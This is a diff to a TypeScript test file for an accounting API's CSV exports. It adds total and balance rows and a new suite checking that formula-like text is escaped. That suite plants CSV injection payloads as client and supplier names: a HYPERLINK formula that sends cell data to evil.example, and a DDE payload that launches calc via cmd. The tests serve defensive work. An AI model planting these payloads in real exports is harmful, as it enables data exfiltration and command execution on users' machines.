@@ -116,14 +116,27 @@ const sectionRows = (name: string, section: Section, compare = true) => [
 describe('reports as CSV', () => {
   it('gives the trial balance line for line, quoting a name with a comma and quotes', async () => {
     const { json, rows } = await both<TrialBalance>('/reports/trialBalance?date=2026-12-31');
-    expect(rows).toEqual(
-      json.lines.map((line) => ({
+    const total = (currency: string, amount: string) => ({
+      accountId: '',
+      code: '',
+      name: 'Total',
+      type: '',
+      currency,
+      debit: amount,
+      credit: amount,
+    });
+    expect(rows).toEqual([
+      ...json.lines.map((line) => ({
         ...line,
         accountId: id(line.accountId),
         debit: plain(line.debit),
         credit: plain(line.credit),
       })),
-    );
+      // Debits: the bank 12,345.67 - 99.99 + 1,000.00 = 13,245.68, trade debtors 4,444.42 - 1,000.00
+      // = 3,444.42 and 7950 99.99: 16,790.09. Credits: 3000 12,345.67, sales 3,703.68, VAT 740.74.
+      total('GBP', '16790.09'),
+      total('USD', '500.00'), // the bill: cost of sales and trade creditors
+    ]);
     expect(rows.find((row) => row.code === '7950')).toMatchObject({ name: ODD_NAME, debit: '99.99' });
     expect(rows.find((row) => row.code === '3000')).toMatchObject({ credit: '12345.67' });
   });
@@ -246,11 +259,12 @@ describe('reports as CSV', () => {
     expect(rows[0]).toEqual({ box: '1', name: 'vatDueSales', amount: '740.74' }); // 3 × 1,234.56 = 3,703.68 × 20%
   });
 
-  it('gives the bank statement movement by movement', async () => {
+  it('gives the bank statement movement by movement, between its opening and closing balances', async () => {
     type Movement = BankMovement;
-    const { json, rows } = await both<{ transactions: Movement[] }>(`/bankAccounts/${bank.id}/transactions`);
-    expect(rows).toEqual(
-      json.transactions.map((movement) => ({
+    const statementRows = async (query: string) => {
+      const { json, rows } = await both<{ transactions: Movement[] }>(`/bankAccounts/${bank.id}/transactions${query}`);
+      const movements = json.transactions.map((movement) => ({
+        row: 'movement',
         id: id(movement.id),
         date: movement.date,
         transactionId: id(movement.transactionId),
@@ -259,9 +273,34 @@ describe('reports as CSV', () => {
         sourceId: id(movement.source.id),
         amount: plain(movement.amount),
         balance: plain(movement.balance),
-      })),
-    );
-    expect(rows.map((row) => row.balance)).toEqual(['12345.67', '12245.68', '13245.68']);
+      }));
+      return { rows, movements };
+    };
+    const balanceRow = (row: string, balance: string) => ({
+      row,
+      id: '',
+      date: '',
+      transactionId: '',
+      reversesTransactionId: '',
+      sourceType: '',
+      sourceId: '',
+      amount: '',
+      balance,
+    });
+    const whole = await statementRows('');
+    expect(whole.rows).toEqual([
+      balanceRow('openingBalance', '0.00'),
+      ...whole.movements,
+      balanceRow('closingBalance', '13245.68'), // 12,345.67 - 99.99 + 1,000.00
+    ]);
+    expect(whole.movements.map((row) => row.balance)).toEqual(['12345.67', '12245.68', '13245.68']);
+    const fromMidJanuary = await statementRows('?from=2026-01-15');
+    expect(fromMidJanuary.rows).toEqual([
+      balanceRow('openingBalance', '12345.67'), // the capital paid in on 2 January
+      ...fromMidJanuary.movements,
+      balanceRow('closingBalance', '13245.68'),
+    ]);
+    expect(fromMidJanuary.movements.map((row) => row.amount)).toEqual(['-99.99', '1000.00']);
   });
 
   it('gives the general journal a posting per row, by Accept or by format', async () => {
@@ -288,5 +327,126 @@ describe('reports as CSV', () => {
     expect((await api.get('/reports/journal?format=csv')).body).toBe(
       (await api.get('/reports/journal', { accept: 'text/csv' })).body,
     );
+  });
+});
+
+describe('text in the CSV reports', () => {
+  /*
+   * Text that a spreadsheet would read as a formula (OWASP's CSV injection: a cell beginning with
+   * =, +, -, @, a tab or a carriage return) is written with a leading ' so that it shows as text;
+   * numbers, negative amounts included, are written as they are.
+   */
+  const CLIENT = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+  const SUPPLIER = "@SUM(1+1)*cmd|' /C calc'!A0";
+  const ACCOUNTS = [
+    ['7961', '+1+1', 'EXPENSE'],
+    ['7962', '-2+3', 'EXPENSE'],
+    ['7963', '\tTabbed', 'EXPENSE'],
+    ['7964', '\rReturned', 'EXPENSE'],
+    ['4310', '=1+1', 'INCOME'],
+    ['3050', '@capital', 'EQUITY'],
+  ];
+  const NUMBER = /^-?[0-9][0-9,]*(\.[0-9]+)?$/;
+
+  let books: Api;
+  let account: BankAccount;
+  beforeAll(async () => {
+    books = await newCompany(t);
+    account = await createBank(books, undefined, '=bank');
+    const client = await createClient(books, CLIENT);
+    const supplier = await createSupplier(books, SUPPLIER);
+    for (const [code, name, type] of ACCOUNTS) ok(await books.post('/accounts', { code, name, type }));
+    const entry = (date: string, lines: [string, 'debitAmountValue' | 'creditAmountValue', string][]) =>
+      books.post('/manualJournalEntries', {
+        reason: '=cmd',
+        date,
+        manualJournalEntryLines: lines.map(([accountCode, side, amount]) => ({ accountCode, [side]: amount })),
+      });
+    ok(
+      await entry('2026-01-02', [
+        [account.ledgerAccountCode, 'debitAmountValue', '1000.00'],
+        ['3050', 'creditAmountValue', '1000.00'],
+      ]),
+    );
+    ok(
+      await entry('2026-01-20', [
+        ['7961', 'debitAmountValue', '10.00'],
+        ['7962', 'debitAmountValue', '20.00'],
+        ['7963', 'debitAmountValue', '30.00'],
+        ['7964', 'debitAmountValue', '40.00'],
+        ['4310', 'creditAmountValue', '1300.00'],
+        [account.ledgerAccountCode, 'debitAmountValue', '1200.00'],
+      ]),
+    );
+    ok(
+      await books.post('/invoices', {
+        clientId: client.id,
+        currency: 'GBP',
+        issueDate: '2026-01-10',
+        dueDate: '2026-01-31',
+        draft: false,
+        invoiceLines: [{ quantity: 1, rate: '100.00', vatRate: 0.2, description: '-desc' }],
+      }),
+    );
+    ok(
+      await books.post('/bills', {
+        supplierId: supplier.id,
+        currency: 'GBP',
+        issueDate: '2026-01-15',
+        dueDate: '2026-01-15',
+        billLines: [{ quantity: 1, unitPrice: '50.00', vatRate: 0, categoryCode: '7961', description: '+desc' }],
+      }),
+    );
+    ok(
+      await books.post('/bankTransfers', {
+        fromBankAccountId: account.id,
+        toBankAccountId: (await createBank(books, undefined, '@savings')).id,
+        amount: '1,200.00',
+        dateTransferred: '2026-02-01',
+      }),
+    );
+  });
+
+  const EXPORTS = [
+    '/reports/trialBalance?date=2026-12-31',
+    '/reports/trialBalance?date=2026-12-31&currency=base',
+    '/reports/profitAndLoss?from=2026-01-01&to=2026-12-31',
+    '/reports/balanceSheet?date=2026-12-31',
+    '/reports/agedReceivables?date=2026-03-15',
+    '/reports/agedPayables?date=2026-03-15',
+    '/reports/vatReturn?from=2026-01-01&to=2026-03-31',
+    'the bank statement',
+    '/reports/journal?format=csv',
+  ];
+
+  const cellsOf = async (url: string) => {
+    const path = url === 'the bank statement' ? `/bankAccounts/${account.id}/transactions` : url;
+    const response = await books.get(path, { accept: 'text/csv' });
+    expect(response.statusCode, response.body).toBe(200);
+    return (parse(response.body) as string[][]).flat();
+  };
+
+  it.each(EXPORTS)('begins no cell of %s as a formula, numbers apart', async (url) => {
+    const cells = await cellsOf(url);
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell))).toEqual([]);
+  });
+
+  it('writes each name that begins as a formula after a quote, as text', async () => {
+    const named = new Set([
+      ...(await cellsOf('/reports/agedReceivables?date=2026-03-15')),
+      ...(await cellsOf('/reports/agedPayables?date=2026-03-15')),
+      ...(await cellsOf('/reports/journal?format=csv')),
+    ]);
+    for (const name of [CLIENT, SUPPLIER, ...ACCOUNTS.map(([, accountName]) => accountName)]) {
+      expect(named).toContain(`'${name}`);
+    }
+  });
+
+  it('writes negative amounts as plain numbers', async () => {
+    const statement = await cellsOf('the bank statement');
+    // 1,000.00 in, 1,200.00 in, then 1,200.00 out to savings.
+    expect(statement).toContain('-1200.00');
+    const journal = await cellsOf('/reports/journal?format=csv');
+    expect(journal).toContain('-1300.00'); // the base value of the credit to 4310
   });
 });
